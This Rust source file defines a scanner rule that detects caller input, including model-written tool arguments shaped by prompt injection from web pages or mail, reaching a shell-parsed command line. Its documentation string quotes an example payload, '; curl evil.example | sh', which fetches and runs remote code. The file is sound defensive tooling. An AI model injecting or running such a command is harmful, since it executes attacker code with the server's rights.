//! A caller writes a part of a command line.

use crate::{
    finding::{Confidence, Finding, Severity},
    project::{Language, Project, facts::Sink},
    rules::{
        Rule, context,
        flows::{self, Told},
    },
};

pub(super) static RULE: Rule = Rule {
    id: "shell-injection",
    group: "injection",
    title: "input of a caller reaches a command line that a shell parses",
    severity: Severity::Critical,
    confidence: Confidence::High,
    languages: &Language::FOLLOWED,
    since: "0.1.0",
    references: &["CWE-78", "MCP05", "MSSS EXEC-01", "CVE-2025-53967", "CVE-2025-54073", "CVE-2025-53818"],
    docs: "
Arguments of tools are written by a model, and so by whoever can write to the model: a web page, an issue, a mail. Where
such an argument becomes part of a text that a shell parses, `; curl evil.example | sh` in it is run with the rights of the
server.

Start the program without a shell, with its arguments as a list: `execFile`, `subprocess.run([...])`, `Command::new`,
`exec.Command`. Let arguments of the caller follow a `--`, and take only values from a fixed set where there is one.

Quoting by a library (`shlex.quote`, `shell-quote`) is reported with low confidence. Quoting by hand, replacing characters and JSON schemas that allow any string do not help. A value from a fixed set, a number
and an anchored pattern do, and are not reported. Where running commands is what the tool is for, the finding is
informational: what such a tool needs is approval and a sandbox.
",
    applies: context::has_server_or_flow,
    check,
};

fn check(project: &Project, findings: &mut Vec<Finding>) {
    let attack = "whoever writes a text that the model reads runs commands with the rights of the server";
    flows::report(
        project,
        &RULE,
        findings,
        |flow| flow.sink == Sink::Shell,
        |flow| {
            if flow.by_design {
                let fix = "let a person approve each command, and run it in a sandbox";
                let told = Told::usual(&RULE, "which a shell parses, by design", attack, fix);
                return Told { severity: Severity::Info, ..told };
            }
            let fix = "start the program without a shell, with its arguments as a list";
            let told = Told::usual(&RULE, "which a shell parses", attack, fix);
            match flow.guards.is_empty() {
                true => told,
                // Right in most shells, and wrong in some: said to those who ask for guesses.
                false => Told { severity: Severity::Medium, confidence: Confidence::Low, ..told },
            }
        },
    );
}
